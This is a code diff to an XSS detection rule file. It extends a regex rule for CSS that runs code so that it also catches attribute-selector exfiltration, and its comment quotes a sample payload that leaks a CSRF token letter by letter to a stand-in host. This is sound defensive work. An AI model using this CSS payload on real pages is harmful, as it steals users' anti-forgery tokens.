@@ -12,7 +12,7 @@ import re
 from typing import Final
 
 from node.decoders import TAG, Translation, code_contents, in_text, nfkc
-from node.rules import NAMED_IN_WORDS, Match, Rule, RuleSet, View, blanked, several_lines
+from node.rules import NAMED_IN_WORDS, Match, Rule, RuleSet, View, blanked, several_lines, words
 from node.types import AttackType
 
 TYPE: Final = AttackType.XSS
@@ -440,7 +440,8 @@ RULES: Final = (
     Rule(
         2008,
         TYPE,
-        "CSS that runs code: expression(), -moz-binding, behavior, @import",
+        "CSS that runs code or reads a page: expression(), -moz-binding, behavior, @import, "
+        "a rule fetching a URL when a field's value starts with a letter",
         re.compile(
             # A property's value: not "the XPath expression (" after a colon in a sentence.
             # Not a word that a line break parts from a parenthesis ("expression\n  (Required)").
@@ -460,8 +461,13 @@ RULES: Final = (
             # CSS escapes hide @import and javascript: from filters, never from browsers.
             r"|<style\b[^>]{0,40}>[^<]{0,200}?"
             rf"(?:@\\?i\\?m\\?p\\?o\\?r\\?t(?!\s*{_FONT_SHEET})|\\?s\\?c\\?r\\?i\\?p\\?t\\?:)"
+            # A selector on how a field's value starts, ends or what it holds, whose rule
+            # fetches from another host: one rule per letter reads a CSRF token out of the
+            # page without a script (`input[name=csrf][value^=a]{background:url(//x/a)}`).
+            r"|\[\s*value\s*[\^$*]=[^\]\n]{0,80}\][^{}\n]{0,80}\{[^}]{0,200}?"
+            r"url\(\s*['\"]?\s*(?:https?:)?//"
         ),
-        ("expression", "-moz-binding", "behavior", "@import", "<style"),
+        words("expression -moz-binding behavior @import <style value^= value$= value*="),
     ),
     Rule(
         2009,
